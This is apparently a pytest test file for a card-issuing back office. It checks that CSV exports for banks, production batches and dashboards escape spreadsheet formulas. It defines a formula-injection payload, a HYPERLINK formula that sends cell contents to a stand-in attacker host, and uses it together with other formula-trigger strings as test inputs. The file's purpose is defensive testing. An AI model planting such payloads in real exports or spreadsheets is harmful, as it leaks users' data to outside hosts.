"""Every file the back office writes escapes spreadsheet formulas (bank requests, production batches,
dashboard exports) and keeps the machine fields the bank and the manufacturer read back intact."""

import csv
import io
from datetime import date
from types import SimpleNamespace

import pytest

from sscard.casework import formats
from sscard.casework.banks.file_exchange import FileExchangeAdapter
from sscard.casework.views import _stream_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _case(**changes):
    fields = dict(office_code="6K9PRQ32BNX", subject_name="张三", subject_id_number="42010619900307010X",
                  subject_sex="M", subject_birth_date=date(1990, 3, 7), nationality="CHN",
                  applicant=SimpleNamespace(phone="13900270001"), res_district="", res_detail="中北路 1 号",
                  bank=SimpleNamespace(code="icbc"), delivery="pickup", outlet_id=3, photo="")
    fields.update(changes)
    return SimpleNamespace(**fields)


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_bank_request_escapes_a_formula_in_the_address_and_keeps_the_machine_fields():
    exchange = SimpleNamespace(number="BK-20261201-0001")
    _name, data = FileExchangeAdapter().build_request(exchange=exchange, applications=[
        _case(res_detail=ATTACK, subject_name="@王五")])
    assert _rows(data) == [
        ["office_code", "name", "id_number", "sex", "birth_date", "nationality", "phone", "residential_address"],
        ["6K9PRQ32BNX", "'@王五", "42010619900307010X", "M", "1990-03-07", "CHN", "13900270001", "'" + ATTACK],
    ]


def test_the_batch_data_file_escapes_formulas_and_keeps_the_machine_fields():
    batch = SimpleNamespace(number="PB-20261201-0001")
    archive = formats.build_batch_archive(batch=batch, items=[(1, _case(subject_name="-1+1"), "6222020200009876543")],
                                          read_photo=lambda name: b"")
    rows = _rows(formats.verify_archive(archive)["cards.csv"])
    assert rows[1] == ["1", "6K9PRQ32BNX", "'-1+1", "42010619900307010X", "M", "1990-03-07", "CHN", "icbc",
                       "6222020200009876543", "pickup", "3", ""]


@pytest.mark.django_db
def test_the_dashboard_export_escapes_formulas_and_writes_numbers_as_numbers():
    response = _stream_csv("x.csv", ["office_code", "note", "days_over"], [["6K9PRQ32BNX", "+86 evil", -2]])
    text = b"".join(response.streaming_content).decode()
    assert text == "\ufeffoffice_code,note,days_over\r\n6K9PRQ32BNX,'+86 evil,-2\r\n"
